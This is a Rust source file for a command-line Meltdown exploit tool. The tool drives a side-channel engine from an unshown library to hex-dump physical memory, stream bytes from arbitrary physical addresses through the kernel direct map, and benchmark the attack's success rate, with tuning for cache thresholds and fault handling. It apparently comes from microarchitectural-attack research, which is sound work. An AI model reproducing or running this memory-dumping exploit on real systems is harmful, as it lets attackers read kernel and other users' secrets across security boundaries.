use std::hint::black_box;
use std::io::{self, Write};
use std::process::ExitCode;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;

use clap::{Args, Parser, Subcommand};
use log::{debug, error, info, Level};
use nix::sys::signal::{sigaction, SaFlags, SigAction, SigHandler, SigSet, Signal};
use rand::seq::IndexedRandom;
use rand::Rng;

use kdump::dump::{format_line, is_blank};
use kdump::{Config, Engine, FaultHandling, LoadType};

type CliResult = Result<(), Box<dyn std::error::Error>>;

const DUMP_WIDTH: usize = 16;
const SPINNER: [char; 4] = ['/', '-', '\\', '|'];

const TEST_STRINGS: &[&str] = &[
    "If you can read this, at least the auto configuration is working",
    "Generating witty test message...",
    "Go ahead with the real exploit if you dare",
    "Have a good day.",
    "Welcome to the wonderful world of microarchitectural attacks",
    "Pay no attention to the content of this string",
    "Please wait while we steal your secrets...",
    "Would you like fries with that?",
    "(insert random quote here)",
    "Don't panic...",
    "Wait, do you smell something burning?",
    "How did you get here?",
];

const SECRETS: &[&str] = &[
    "If you can read this, this is really bad",
    "Burn after reading this string, it is a secret string",
    "Congratulations, you just spied on an application",
    "Wow, you broke the security boundary between user space and kernel",
    "Welcome to the wonderful world of microarchitectural attacks",
    "Please wait while we steal your secrets...",
    "Don't panic... But your CPU is broken and your data is not safe",
    "How can you read this? You should not read this!",
];

static RUNNING: AtomicBool = AtomicBool::new(true);

extern "C" fn on_sigint(_: libc::c_int) {
    RUNNING.store(false, Ordering::Relaxed);
}

fn running() -> bool {
    RUNNING.load(Ordering::Relaxed)
}

/// Turns Ctrl+C into a request to leave the current read loop. Only the
/// loops that poll `running()` call this; everything else keeps the
/// default disposition so an interrupt still ends the process.
fn catch_interrupts() {
    let interrupt = SigAction::new(
        SigHandler::Handler(on_sigint),
        SaFlags::empty(),
        SigSet::empty(),
    );
    if let Err(e) = unsafe { sigaction(Signal::SIGINT, &interrupt) } {
        error!("Failed to setup SIGINT handler: {e}");
    }
}

#[derive(Parser, Debug)]
#[command(version, about = "Read memory with Meltdown", long_about = None)]
struct Cli {
    /// Print calibration and per-read statistics
    #[arg(short, long, global = true)]
    verbose: bool,
    #[command(flatten)]
    tuning: Tuning,
    #[command(subcommand)]
    cmd: Cmd,
}

/// Overrides applied on top of the auto configuration.
#[derive(Args, Debug)]
struct Tuning {
    /// Virtual address of the direct physical map
    #[arg(long, global = true, value_parser = parse_address)]
    offset: Option<usize>,
    /// Flush+Reload threshold in cycles
    #[arg(long, global = true)]
    threshold: Option<u64>,
    #[arg(long, global = true, value_enum)]
    fault_handling: Option<FaultHandling>,
    #[arg(long, global = true)]
    measurements: Option<u32>,
    #[arg(long, global = true)]
    accept_after: Option<u32>,
    #[arg(long, global = true)]
    retries: Option<usize>,
    #[arg(long, global = true)]
    load_threads: Option<usize>,
    #[arg(long, global = true, value_enum)]
    load_type: Option<LoadType>,
}

#[derive(Subcommand, Debug, Clone)]
enum Cmd {
    /// Read a random string from this process's own memory
    Test,
    /// Keep a secret string cached and print its physical address
    Secret,
    /// Hex dump physical memory through the direct map
    Dump {
        #[arg(value_parser = parse_address, default_value = "0x40000000")]
        phys: usize,
        /// Number of bytes, unlimited if omitted
        #[arg(value_parser = parse_address)]
        size: Option<usize>,
    },
    /// Stream characters from a physical address
    Read {
        #[arg(value_parser = parse_address)]
        phys: usize,
    },
    /// Measure the success rate against a changing secret
    Reliability,
    /// Fill memory with recognizable strings until Enter is pressed
    Fill { gigabytes: usize },
}

fn parse_address(s: &str) -> Result<usize, String> {
    let parsed = match s.strip_prefix("0x").or_else(|| s.strip_prefix("0X")) {
        Some(hex) => usize::from_str_radix(hex, 16),
        None => s.parse(),
    };
    parsed.map_err(|e| format!("{s:?}: {e}"))
}

impl Tuning {
    /// Auto configuration, then `preset`, then whatever was given on the
    /// command line.
    fn config(&self, preset: impl FnOnce(&mut Config)) -> Config {
        let mut config = kdump::autoconfig();
        preset(&mut config);

        let default_offset = config.physical_offset;
        config.physical_offset = match self.offset {
            Some(offset) => offset,
            None => kdump::query_direct_map().unwrap_or_else(|e| {
                debug!("{e}, using default direct map offset");
                default_offset
            }),
        };
        if let Some(threshold) = self.threshold {
            config.cache_miss_threshold = threshold;
        }
        if let Some(fault_handling) = self.fault_handling {
            config.fault_handling = fault_handling;
        }
        if let Some(measurements) = self.measurements {
            config.measurements = measurements;
        }
        if let Some(accept_after) = self.accept_after {
            config.accept_after = accept_after;
        }
        if let Some(retries) = self.retries {
            config.retries = retries;
        }
        if let Some(load_threads) = self.load_threads {
            config.load_threads = load_threads;
        }
        if let Some(load_type) = self.load_type {
            config.load_type = load_type;
        }
        config
    }
}

fn fast_preset(config: &mut Config) {
    config.retries = 10;
    config.measurements = 2;
}

fn test(tuning: &Tuning) -> CliResult {
    let mut engine = Engine::init(tuning.config(|_| {}))?;
    let text = TEST_STRINGS.choose(&mut rand::rng()).copied().unwrap_or_default();

    println!("Expect: \x1b[32;1m{text}\x1b[0m");
    print!("   Got: \x1b[33;1m");
    for i in 0..text.len() {
        let value = engine.read_byte(text.as_ptr() as usize + i);
        print!("{}", value as char);
        io::stdout().flush()?;
    }
    println!("\x1b[0m");

    engine.cleanup()?;
    Ok(())
}

fn secret() -> CliResult {
    let secret = SECRETS.choose(&mut rand::rng()).copied().unwrap_or_default();
    info!("Secret: \x1b[33;1m{secret}\x1b[0m");

    let paddr = kdump::virtual_to_physical(secret.as_ptr() as usize)?;
    info!("Physical address of secret: \x1b[32;1m{paddr:#x}\x1b[0m");
    info!("Exit with \x1b[37;1mCtrl+C\x1b[0m if you are done reading the secret");

    catch_interrupts();
    while running() {
        // keep the string cached
        let mut sum = 0usize;
        for byte in secret.bytes() {
            sum = black_box(sum + byte as usize);
        }
        black_box(sum);
        thread::yield_now();
    }
    Ok(())
}

fn dump(tuning: &Tuning, phys: usize, size: Option<usize>) -> CliResult {
    let mut engine = Engine::init(tuning.config(fast_preset))?;
    let vaddr = engine.physical_to_virtual(phys)?;

    info!("Physical address       : \x1b[33;1m{phys:#x}\x1b[0m");
    info!("Physical offset        : \x1b[33;1m{:#x}\x1b[0m", engine.config().physical_offset);
    info!("Virtual address        : \x1b[33;1m{vaddr:#x}\x1b[0m");

    let size = size.unwrap_or(usize::MAX);
    let width = DUMP_WIDTH.min(size);
    let mut line = Vec::with_capacity(width);
    let mut line_start = phys;
    let mut delta = 0usize;
    catch_interrupts();
    while running() && delta < size {
        line.push(engine.read_byte(vaddr.wrapping_add(delta)));
        delta += 1;
        if line.len() == width {
            if !is_blank(&line) {
                println!("{}", format_line(line_start, &line));
            }
            line.clear();
            line_start = phys.wrapping_add(delta);
        }
    }
    if !is_blank(&line) {
        println!("{}", format_line(line_start, &line));
    }

    engine.cleanup()?;
    Ok(())
}

fn read(tuning: &Tuning, phys: usize) -> CliResult {
    let mut engine = Engine::init(tuning.config(|_| {}))?;
    let mut vaddr = engine.physical_to_virtual(phys)?;

    info!("Physical address       : \x1b[33;1m{phys:#x}\x1b[0m");
    info!("Physical offset        : \x1b[33;1m{:#x}\x1b[0m", engine.config().physical_offset);
    info!("Reading virtual address: \x1b[33;1m{vaddr:#x}\x1b[0m");

    let mut stdout = io::stdout();
    catch_interrupts();
    while running() {
        let value = engine.read_byte(vaddr);
        print!("{}", value as char);
        stdout.flush()?;
        vaddr = vaddr.wrapping_add(1);
    }
    println!();

    engine.cleanup()?;
    Ok(())
}

fn reliability(tuning: &Tuning) -> CliResult {
    let mut engine = Engine::init(tuning.config(fast_preset))?;
    let mut scratch = vec![0usize; 4096];
    let var = &mut scratch[2048] as *mut usize as *mut u8;

    let paddr = kdump::virtual_to_physical(var as usize)?;
    let vaddr = engine.physical_to_virtual(paddr)?;

    let mut rng = rand::rng();
    let mut secret = b'X';
    let (mut correct, mut wrong, mut failed) = (0u64, 0u64, 0u32);
    let mut progress = 0usize;
    let mut stdout = io::stdout();
    catch_interrupts();
    while running() {
        unsafe { var.write_volatile(secret) };

        let value = engine.read_byte(vaddr);
        if value == secret {
            correct += 1;
        } else if value != 0 {
            wrong += 1;
        } else {
            failed += 1;
            if failed < 1000 {
                continue;
            }
            failed = 0;
            wrong += 1;
        }

        let total = correct + wrong;
        print!(
            "\r\x1b[34;1m[{}]\x1b[0m Success rate: {:.2}% (read {} values)    ",
            SPINNER[(progress / 100) % SPINNER.len()],
            100.0 * correct as f64 / total as f64,
            total
        );
        stdout.flush()?;
        progress += 1;
        secret = rng.random_range(1..=255);
    }
    println!();

    engine.cleanup()?;
    Ok(())
}

fn fill(gigabytes: usize) -> CliResult {
    let size = gigabytes
        .checked_mul(1 << 30)
        .filter(|&size| size > 0)
        .ok_or("Invalid size!")?;
    let mut memory: Vec<u8> = Vec::new();
    memory
        .try_reserve_exact(size)
        .map_err(|_| format!("Could not allocate {gigabytes} GB memory, try less!"))?;

    let mut rng = rand::rng();
    while let Some(text) = SECRETS.choose(&mut rng) {
        if memory.len() + text.len() >= size {
            break;
        }
        memory.extend_from_slice(text.as_bytes());
    }
    black_box(&memory);

    info!("Press Enter if you are done reading the secret");
    let mut line = String::new();
    io::stdin().read_line(&mut line)?;
    info!("Done!");
    Ok(())
}

fn main() -> ExitCode {
    let cli = Cli::parse();

    env_logger::Builder::from_env(
        env_logger::Env::default().default_filter_or(if cli.verbose { "debug" } else { "info" }),
    )
    .format(|buf, record| {
        let marker = match record.level() {
            Level::Error | Level::Warn => "\x1b[31;1m[-]\x1b[0m",
            Level::Info => "\x1b[32;1m[+]\x1b[0m",
            Level::Debug | Level::Trace => "\x1b[33;1m[.]\x1b[0m",
        };
        writeln!(buf, "{marker} {}", record.args())
    })
    .init();
    if cli.verbose {
        kdump::set_debug_output(true);
    }

    let result = match cli.cmd {
        Cmd::Test => test(&cli.tuning),
        Cmd::Secret => secret(),
        Cmd::Dump { phys, size } => dump(&cli.tuning, phys, size),
        Cmd::Read { phys } => read(&cli.tuning, phys),
        Cmd::Reliability => reliability(&cli.tuning),
        Cmd::Fill { gigabytes } => fill(gigabytes),
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            error!("{e}");
            ExitCode::FAILURE
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use clap::CommandFactory;

    #[test]
    fn cli_definition_is_consistent() {
        Cli::command().debug_assert();
    }

    #[test]
    fn addresses_accept_hex_and_decimal() {
        assert_eq!(parse_address("0x1000"), Ok(0x1000));
        assert_eq!(parse_address("0XfF"), Ok(0xff));
        assert_eq!(parse_address("4096"), Ok(4096));
        assert!(parse_address("0xzz").is_err());
        assert!(parse_address("").is_err());
    }

    #[test]
    fn global_overrides_parse_after_subcommand() {
        let cli = Cli::try_parse_from([
            "kdump",
            "dump",
            "0x1000",
            "64",
            "--offset",
            "0xffff888000000000",
            "--load-type",
            "yield",
            "--fault-handling",
            "signal-recovery",
        ])
        .unwrap();
        assert_eq!(cli.tuning.offset, Some(0xffff_8880_0000_0000));
        assert_eq!(cli.tuning.load_type, Some(LoadType::Yield));
        assert_eq!(cli.tuning.fault_handling, Some(FaultHandling::SignalRecovery));
        assert!(matches!(cli.cmd, Cmd::Dump { phys: 0x1000, size: Some(64) }));
    }

    fn sigint_handler() -> usize {
        let mut current: libc::sigaction = unsafe { std::mem::zeroed() };
        unsafe { libc::sigaction(libc::SIGINT, std::ptr::null(), &mut current) };
        current.sa_sigaction
    }

    #[test]
    fn interrupt_stops_read_loop_once_caught() {
        assert_eq!(sigint_handler(), libc::SIG_DFL);
        catch_interrupts();
        assert_eq!(sigint_handler(), on_sigint as usize);
        assert!(running());

        nix::sys::signal::raise(Signal::SIGINT).unwrap();
        assert!(!running());

        RUNNING.store(true, Ordering::Relaxed);
        let default = SigAction::new(SigHandler::SigDfl, SaFlags::empty(), SigSet::empty());
        unsafe { sigaction(Signal::SIGINT, &default) }.unwrap();
        assert_eq!(sigint_handler(), libc::SIG_DFL);
    }
}
